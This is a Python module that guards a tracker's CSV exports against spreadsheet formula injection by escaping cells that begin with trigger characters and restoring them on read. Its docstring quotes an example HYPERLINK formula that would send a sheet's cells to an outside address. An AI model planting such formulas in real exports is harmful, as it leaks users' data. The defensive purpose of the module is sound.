"""CSV files as the tracker writes and reads them: every CSV file it writes goes through
`csv_text`, every one it reads through `records`.

A spreadsheet runs a cell that begins with `=`, `+`, `-`, `@`, a TAB or a CR as a formula: a
card named `=HYPERLINK("http://..."&A3,"Ajax")` exported and opened in Excel or LibreOffice
would send the sheet's cells to that address. So a text cell that begins with one of them is
written with a leading apostrophe, as OWASP advises ("CSV Injection"): a spreadsheet shows the
text as it is and keeps no apostrophe. A number stays a number (-2 is a size modifier, not a
formula). The tracker's own reader takes the apostrophe off again, so a file written and read
back gives every cell exactly: a text that itself begins with apostrophes before such a
character gets one more on the way out, and loses one on the way in.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

TRIGGERS = "=+-@\t\r"
# A cell a spreadsheet would run, under any number of apostrophes already there.
_ARMED = re.compile(r"'*[=+\-@\t\r]")


class NotCsv(ValueError):
    """A file the CSV reader refuses: the line it stopped at, and why."""

    def __init__(self, line: int, reason: str) -> None:
        super().__init__(f"line {line}: {reason}")
        self.line, self.reason = line, reason


def neutralised(text: str) -> str:
    """A text cell as the file holds it: an apostrophe first where a spreadsheet would run it."""
    return "'" + text if _ARMED.match(text) else text


def restored(cell: str) -> str:
    """A cell as it was before `neutralised`: one apostrophe off a cell that was armed."""
    return cell[1:] if cell.startswith("'") and _ARMED.match(cell, 1) else cell


def csv_text(header: Sequence[str], rows: Iterable[Sequence[str | int | None]]) -> str:
    """A CSV file (commas, CRLF line ends, UTF-8 once encoded): a text cell neutralised, a
    whole number written as it is, None as a blank cell."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralised(name) for name in header])
    for row in rows:
        writer.writerow(["" if cell is None else neutralised(cell) if isinstance(cell, str)
                         else str(cell) for cell in row])  # fmt: skip
    return out.getvalue()


def records(text: str, *, delimiter: str = ",") -> list[list[str]]:
    """Every line of a CSV file's text as its cells, each restored; NotCsv when the text is
    not CSV (a quote never closed, ...)."""
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True)
    try:
        return [[restored(cell) for cell in record] for record in reader]
    except csv.Error as exc:
        raise NotCsv(reader.line_num, str(exc)) from exc
